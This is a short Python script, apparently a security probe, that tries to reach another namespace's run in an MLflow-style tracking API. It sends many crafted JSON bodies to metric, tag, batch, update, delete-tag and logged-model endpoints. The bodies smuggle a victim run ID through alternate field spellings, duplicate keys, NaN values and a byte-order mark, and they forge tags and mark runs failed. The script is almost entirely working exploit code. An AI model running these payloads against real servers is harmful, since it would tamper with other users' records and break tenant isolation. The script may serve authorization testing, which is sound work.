# Argument: a run of another namespace. Every call that might reach it under another spelling of its field.
victim = sys.argv[1]
own, number = new_run()
bodies = {
    "runs/log-metric": ['{"run_id":"OWN","runId":"VICTIM","key":"a","value":1,"timestamp":1,"step":0}',
                        '{"run_id":"VICTIM","key":"a","value":1,"timestamp":1,"step":0}',
                        '{"run_id":"OWN","run_id":"VICTIM","key":"a","value":1,"timestamp":1,"step":0}',
                        '{"run_id":"VICTIM","run_id":"OWN","key":"a","value":1,"timestamp":1,"step":0}',
                        '{"run_id":"OWN","runId":"VICTIM","key":"nan","value":NaN,"timestamp":1,"step":0}'],
    "runs/set-tag": ['{"run_id":"OWN","runId":"VICTIM","key":"a","value":"x"}',
                     '{"run_uuid":"OWN","runUuid":"VICTIM","key":"a","value":"x"}',
                     '{"run_id":"OWN","run_uuid":"VICTIM","key":"a","value":"x"}',
                     '{"run_id":"OWN","key":"pedigree.reason","key":"harmless","value":"x"}',
                     '\ufeff{"run_id":"OWN","runId":"VICTIM","key":"bom","value":"x"}'],
    "runs/log-batch": ['{"run_id":"OWN","runId":"VICTIM","metrics":[{"key":"b","value":1,"timestamp":1,"step":0}],'
                       '"params":[{"key":"b","value":"x"}],"tags":[{"key":"pedigree.reason","value":"forged"}]}'],
    "runs/update": ['{"run_id":"OWN","runId":"VICTIM","status":"FAILED","run_name":"renamed","end_time":1}'],
    "runs/delete-tag": ['{"run_id":"OWN","runId":"VICTIM","key":"mlflow.user"}'],
    "logged-models": ['{"experiment_id":"NUMBER","name":"m","source_run_id":"OWN","sourceRunId":"VICTIM"}',
                      '{"experiment_id":"NUMBER","name":"m","sourceRunId":"VICTIM"}',
                      '{"experiment_id":"NUMBER","name":"m","source_run_id":"VICTIM","x":NaN}',
                      '{"experiment_id":"NUMBER","name":"m","source_run_id":"VICTIM","x":1,"x":2}'],
}
for call, texts in bodies.items():
    for text in texts:
        api(call, text.replace("OWN", own).replace("VICTIM", victim).replace("NUMBER", number).encode())
print("OWN", own, flush=True)
